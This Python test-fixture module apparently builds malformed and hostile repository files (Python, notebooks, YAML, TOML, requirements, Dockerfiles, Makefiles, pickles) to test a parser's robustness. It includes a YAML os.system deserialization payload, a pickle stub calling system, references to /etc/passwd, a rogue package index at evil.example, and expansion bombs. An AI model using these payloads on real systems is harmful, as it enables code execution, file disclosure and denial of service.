"""Files that exhaust, crash or mislead whoever parses them."""

import json

from tests.hostile.building import family_case, files_case

_K = 1_000
_ALL = "+".join(f"f{number}(x)" for number in range(60))

PYTHON: dict[str, str | bytes] = {
    "parentheses": "x = " + "(" * 5_000 + ")" * 5_000,
    "blocks": "".join("  " * depth + "if x:\n" for depth in range(150)),
    "elif chain": "if x == 0:\n    pass\n" + "".join(f"elif x == {number}:\n    pass\n" for number in range(5_000)),
    "sum chain": "x = " + "+".join(["1"] * 20_000),
    "attribute chain": "x = a" + ".b" * 20_000,
    "call chain": "x = f" + "()" * 20_000,
    "method chain": "x = df" + ".a(1)" * 5_000,
    "not chain": "x = " + "not " * 20_000 + "y",
    "power chain": "x = " + "**".join(["2"] * 20_000),
    "lambda chain": "x = " + "lambda: " * 5_000 + "0",
    "comprehensions": "x = " + "[" * 80 + "y" + " for y in z]" * 80,
    "big list": "x = [" + "1," * 450_000 + "]",
    "list of 20,000 lines": "x = [\n" + "    1,\n" * 20_000 + "]\n",
    "big dictionary": "x = {" + ",".join(f"'k{number}': {number}" for number in range(50_000)) + "}",
    "f string fields": "x = f'" + "{a}" * 100_000 + "'",
    "nested f string": "x = " + "f'{" * 100 + "a" + "}'" * 100,
    "string of 20,000 lines": 'x = """' + "line\n" * 20_000 + '"""\n',
    "continued lines": "x = 1 + \\\n" * 3_000 + "1\n",
    "half a million statements": "x=1\n" * 250_000,
    "digits": "x = " + "9" * 10_000,
    "hexadecimal digits": "x = 0x" + "f" * 100_000,
    "nul bytes": b"x = 1\0\n" * 100,
    "utf 16": "import sklearn\nx = 1\n".encode("utf-16"),
    "unknown cookie": b"# -*- coding: nonsense -*-\nx = 1\n",
    "utf 7 cookie": b"# -*- coding: utf-7 -*-\n+AGkAbQBwAG8AcgB0- os\n",
    "lone surrogate": "x = '\\ud800'\npassword = '\\udcff\\udcff\\udcff\\udcff'\n",
    "line separators": "x = 'a\u2028b'\n\x0cy = 1\u2029\n".encode(),
    "carriage returns only": b"import sklearn\rx = 1\rdef f():\r    return 1\r",
    "byte order mark": b"\xef\xbb\xbfimport sklearn\n",
    "one line of 900 kb": "x = '" + "a" * 900_000 + "'\n",
    "spaces of 900 kb": "x = 1" + " " * 900_000 + "\n",
    "comment of 900 kb": "#" + " #" * 450_000 + "\n",
    "addresses of 200 kb": "x = '" + "a.b-" * 50_000 + "@'\n",
    "decorators": "@a\n" * 5_000 + "def f(): pass\n",
    "ten thousand functions": "".join(f"def f{number}(a, b): return f{number - 1}(a, b)\n" for number in range(10_000)),
    "functions that call all": "".join(f"def f{number}(x): return {_ALL}\n" for number in range(60)),
    "import of itself": "from train import *\nfrom . import a\nimport a\nfrom ..... import b\n",
    "class of itself": "class A(A): pass\nclass B(C): pass\nclass C(B): pass\nx = A().fit(A())\n",
    "value of itself": "x = x.fit(x)\nfor _ in x:\n    x = x.fit(x.y(x))\n" * 300,
    "unpacking": ",".join(["a"] * 20_000) + " = x\n",
    "binary": bytes(range(256)) * 1_000,
    "python 2": "print 'x'\nexec 'y'\n" * 1_000,
    "merge conflict": "<<<<<<< HEAD\nx = 1\n=======\nx = 2\n>>>>>>> b\n" * 500,
    "open strings": "x = '''\n" + '"""\n' * 1_001,
    "template": "{% for x in y %}\nimport {{ x }}\n{% endfor %}\n",
    "deep subscripts": "x = a" + "[0]" * 5_000,
    "walrus and match": "match x:\n" + "".join(f"    case [{number}, *_]: pass\n" for number in range(2_000)),
    "type comments": "x = 1 # type: " + "List[" * 5_000 + "\n",
    "global mess": "global x\nnonlocal y\nreturn 1\nyield 2\nawait z\nbreak\n",
}


def _cells(*cells: object, **more: object) -> dict[str, object]:
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": list(cells)} | more


def _code(**more: object) -> dict[str, object]:
    return {"cell_type": "code", "metadata": {}, "execution_count": 1, "source": ["import sklearn\n"], "outputs": []} | more


def _deep(depth: int) -> str:
    return "[" * depth + "]" * depth


NOTEBOOKS: dict[str, object] = {
    "nothing": b"",
    "no json": b"{not json",
    "a list": [],
    "a word": "x",
    "null": None,
    "cells are a dictionary": {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": {"a": 1}},
    "cells are null": {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": None},
    "cells are words": _cells("a", 1, None, []),
    "metadata is a list": _cells(_code(), metadata=[]),
    "source is null": _cells(_code(source=None)),
    "source is a number": _cells(_code(source=7)),
    "source is numbers": _cells(_code(source=[1, 2])),
    "source is a dictionary": _cells(_code(source={"a": "b"})),
    "unknown cell": _cells(_code(cell_type="evil"), _code(cell_type=None), _code(cell_type=["code"])),
    "count is a word": _cells(_code(execution_count="5"), _code(execution_count=1e300), _code(execution_count=True)),
    "outputs are odd": _cells(_code(outputs={"a": 1}), _code(outputs=[1, None, "x", {}, {"output_type": 7, "data": [], "text": {}}])),
    "format is a word": _cells(_code(), nbformat="4"),
    "format is true": _cells(_code(), nbformat=True),
    "format of tomorrow": _cells(_code(), nbformat=99),
    "format 3 with odd levels": {"nbformat": 3, "worksheets": [{"cells": [{"cell_type": "heading", "level": "1"}, {"input": 1}]}, None]},
    "kernel is a word": _cells(_code(), metadata={"kernelspec": "python", "language_info": 7}),
    "bom": b"\xef\xbb\xbf" + json.dumps(_cells(_code())).encode(),
    "utf 16": json.dumps(_cells(_code())).encode("utf-16"),
    "nested 900 deep": ('{"nbformat":4,"cells":[],"metadata":{"a":' + _deep(900) + "}}").encode(),
    "nested 100,000 deep": _deep(100_000).encode(),
    "digits": ('{"nbformat":4,"metadata":{},"cells":[{"cell_type":"code","execution_count":' + "9" * 6_000 + "}]}").encode(),
    "no number": b'{"nbformat": 4, "nbformat_minor": NaN, "cells": [{"cell_type": "code", "execution_count": Infinity}]}',
    "lone surrogates": b'{"nbformat": 4, "cells": [{"cell_type": "markdown", "source": ["# \\ud800 accuracy 0.9"]}]}',
    "same keys": b'{"nbformat": 4, "nbformat": 3, "cells": [], "cells": [{"cell_type": "code", "source": "x = ("}]}',
    "ten thousand cells": _cells(*[_code(id="same") for _ in range(10_000)]),
    "outputs of 12 mb": _cells(_code(outputs=[{"output_type": "stream", "name": "stdout", "text": ["x" * 1_000_000] * 12}])),
    "magics without end": _cells(_code(source=["%%" * 50_000 + "\n", "!" * 50_000 + "\n", "?" * 50_000])),
    "attachments": _cells({"cell_type": "markdown", "source": "![x](attachment:y)", "attachments": {"y": {"image/png": "A" * 3_000_000}}}),
}

_LAUGHS = "a0: &a0 [lol]\n" + "".join(f"a{n}: &a{n} [{','.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 10))
_MERGE = "a0: &a0 {x: 1}\n" + "".join(f"a{n}: &a{n}\n  <<: [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 9))

YAML: dict[str, str | bytes] = {
    "laughs": _LAUGHS,
    "merges": _MERGE,
    "brackets": "[" * 100_000,
    "braces": "{" * 100_000,
    "dashes": "- " * 50_000,
    "objects": "!!python/object/apply:os.system ['touch HOSTILE']\n",
    "dates": "on: push\nd: 2024-99-99\ni: " + "9" * 6_000 + "\n",
    "long list": "x:\n" + "- 1\n" * 60_000,
    "anchors": "a: &a [*a]\nb: *unknown\n",
    "tabs": "on:\n\tpush\n",
    "documents": "---\non: push\n" * 5_000,
    "templates": "on: {{ .Values.x }}\njobs: {{ x }}\n",
    "odd keys": "? [a, b]\n: c\n? {d: e}\n: f\n1: 2\nnull: x\ntrue: y\n",
    "jobs of odd shape": "on: [push, 7, {a: b}]\njobs: [1, 2]\n",
    "steps of odd shape": "on: {push: 7}\njobs: {a: {steps: {b: c}}, d: [e], f: null, g: {steps: [1, null, {run: [y], uses: {z: 1}}]}}\n",
    "nulls": b"on: push\0\njobs: {}\n",
    "not utf 8": b"on: push # \xff\xfe\n",
    "utf 16": "on: push\n".encode("utf-16"),
    "a quoted scalar without end": 'on: "' + "x\n" * 50_000,
}
_YAML_PLACES: tuple[str, ...] = (".github/workflows/ci.yml", "docker-compose.yml", "environment.yml", "dvc.yaml", ".gitlab-ci.yml")
_YAML_PLACES += (".pre-commit-config.yaml", "conf/config.yaml", "params.yaml")

TOML: dict[str, str | bytes] = {
    "nested": "x = " + _deep(2_000),
    "digits": "[project]\nx = " + "9" * 6_000,
    "twice": "[project]\nname='a'\n[project]\nname='b'\n",
    "odd shapes": "project = 1\ntool = [1, 2]\nbuild-system = 'x'\n",
    "odd dependencies": "[project]\ndependencies = {a = 1}\noptional-dependencies = [1]\nscripts = 7\nrequires-python = 3\n",
    "dots": "a" + ".a" * 5_000 + " = 1\n",
    "bom": b"\xef\xbb\xbf[project]\nname='a'\n",
    "dates": "x = 9999-12-31T23:59:60Z\n",
    "not utf 8": b"[project]\nname = '\xff'\n",
}
INI: dict[str, str | bytes] = {
    "interpolation": "[options]\nb0 = x\n"
    + "".join(f"b{n} = {f'%(b{n - 1})s' * 10}\n" for n in range(1, 9))
    + "install_requires = %(b8)s\n",
    "percent": "[options]\ninstall_requires = 100%\n",
    "no section": "x = 1\n" * 100,
    "brackets": "[" * 100_000 + "\n",
}
JSON: dict[str, str | bytes] = {
    "nested": _deep(100_000),
    "objects": '{"a":' * 50_000,
    "digits": '{"lr": ' + "9" * 6_000 + "}",
    "no numbers": '{"lr": NaN, "x": -Infinity}',
    "surrogates": '{"name": "\\ud800"}',
    "comments": '{"a": 1, // x\n}',
}
MARKDOWN: dict[str, str | bytes] = {
    "brackets": "[" * 100_000,
    "links": "[a](" * 50_000,
    "images": "![" * 50_000,
    "emphasis": "*a " * 50_000 + "**b" * 50_000,
    "underscores": "_" * 200_000,
    "quotes": ">" * 20_000 + " x\n",
    "lists": "".join(" " * depth + "- x\n" for depth in range(600)),
    "spaces": "x" + " " * 300_000 + "\n",
    "addresses": "a.b-" * 50_000 + "@" + "c." * 50_000,
    "table": "|" * 50_000 + "\n" + "|-" * 50_000 + "|\n" + "|x" * 50_000,
    "backticks": "`" * 100_000 + "\n" + "".join("`" * number + "x " for number in range(500)),
    "comment without end": "<!-- " * 50_000,
    "tags": "<a " * 50_000 + "<details>" * 20_000,
    "entities": "&amp;#" * 50_000,
    "references": "".join(f"[{number}]: x\n" for number in range(20_000)) + "[1]" * 20_000,
    "digits": "accuracy " + "9" * 100_000 + "." + "9" * 100_000 + "%\n",
    "claims": "accuracy of 0.9 " * 20_000,
    "front matter": "---\n" + "a: [" * 20_000 + "\n---\n# x\n",
    "headings": "# x\n" * 50_000,
    "nul bytes": b"# x\0\n\0\0",
    "not utf 8": b"# caf\xe9 \xff\xfe\n",
    "utf 16": "# Title\n\ntext\n".encode("utf-16"),
    "arabic and emoji": "# \u0645\u0634\u0631\u0648\u0639 \U0001f600\u200d\U0001f525\n" * 500,
}
REQUIREMENTS: dict[str, str | bytes] = {
    "other files": "-r /etc/passwd\n-r requirements.txt\n-c ../../x\n-e .\n--index-url https://u:decoy-index-token@evil.example/\n",
    "a long line": "pandas" + "=" * 200_000 + "\n",
    "spaces": "pandas" + " " * 200_000 + ">1\n",
    "brackets": "pandas[" * 50_000,
    "markers": "pandas; " + "(" * 20_000 + "python_version" + "\n",
    "versions": "pandas>=" + "1." * 100_000 + "1\n",
    "continued": "pandas \\\n" * 50_000,
    "binary": bytes(range(256)) * 400,
    "utf 16": "pandas==2.0\n".encode("utf-16"),
}
DOCKERFILES: dict[str, str | bytes] = {
    "continued": "FROM python\nRUN x \\\n" + " y \\\n" * 50_000,
    "heredoc": "FROM python\nRUN <<EOF\n" + "x\n" * 20_000,
    "json": 'FROM python\nCMD ["' + "[" * 50_000 + "\n",
    "stages": "FROM a AS b\nCOPY --from=b x y\n" * 5_000,
    "escape": "# escape=`\n# syntax=evil/x\nFROM python`\n",
    "binary": bytes(range(256)) * 400,
    "words": "evil evil\n" * 100,
}
OTHERS: dict[str, dict[str, str | bytes]] = {
    "makefile of odd lines": {"Makefile": "a:" * 50_000 + "\n\t" + "\\\n\t" * 50_000 + "$(shell touch HOSTILE)\ninclude /etc/passwd\n"},
    "tables of odd shape": {
        "a.csv": '"' * 60_000,
        "b.csv": "," * 60_000,
        "c.tsv": b"\0" * 60_000,
        "d.csv": "x\r" * 30_000,
        "e.csv": b"\xff\xfea\0",
    },
    "shell script": {"run.sh": "$(" * 20_000 + "\n" + "python train.py && " * 5_000},
    "licence of one line": {"LICENSE": "MIT " * 100_000},
    "env of odd lines": {".env": "=" * 50_000 + "\nA" * 5_000 + "=x\n", ".env.example": b"\xff" * 5_000},
    "ignore file": {".gitignore": "**/" * 20_000 + "\n" + "[a-" * 10_000},
    "procfile and setup": {"Procfile": "web: " * 5_000, "setup.py": "from setuptools import setup\nsetup(" + "x=(" * 80 + ")" * 81},
    "jenkins and nox": {
        "Jenkinsfile": "pipeline {" * 5_000,
        "noxfile.py": "@nox.session\n" * 500,
        "tox.ini": "[testenv]\ncommands = %(x)s\n",
    },
    "pipfile and locks": {"Pipfile": "[packages]\nx = {y = [1]}\n", "Pipfile.lock": "{" * 5_000, "poetry.lock": "[[package]]\n" * 20_000},
    "not what they seem": {"Dockerfile.md": "# x", "train.ipynb.py": "{", "README": b"\x7fELF" * 100, "model.pkl": b"cos\nsystem\ntR."},
    "apple double": {"._train.py": b"\0\x05\x16\x07" * 100, "__MACOSX/._x.ipynb": b"\0\x05\x16\x07", ".DS_Store": b"\0\0\0\x01Bud1"},
}

# What takes seconds by itself (a limit ends it) stays out of the repository that holds all.
HEAVY = {"f string fields", "half a million statements", "ten thousand functions", "big list", "big dictionary"}

family_case("python", {name: {"hard.py": content} for name, content in PYTHON.items() if name not in HEAVY})
for _name in sorted(HEAVY):
    files_case(f"python of {_name}", {"hard.py": PYTHON[_name]})
family_case("notebook", {name: {"hard.ipynb": each if isinstance(each, bytes) else json.dumps(each)} for name, each in NOTEBOOKS.items()})
for _kind, _contents, _places in (
    ("yaml", YAML, _YAML_PLACES),
    ("toml", TOML, ("pyproject.toml", "config/settings.toml")),
    ("ini", INI, ("setup.cfg", "tox.ini", "config/settings.ini")),
    ("json", JSON, ("config.json", "package.json", ".devcontainer/devcontainer.json")),
    ("markdown", MARKDOWN, ("README.md", "docs/model_card.md")),
    ("requirements", REQUIREMENTS, ("requirements.txt",)),
    ("dockerfile", DOCKERFILES, ("Dockerfile",)),
):
    family_case(_kind, {name: dict.fromkeys(_places, content) for name, content in _contents.items()})
family_case("file", OTHERS)
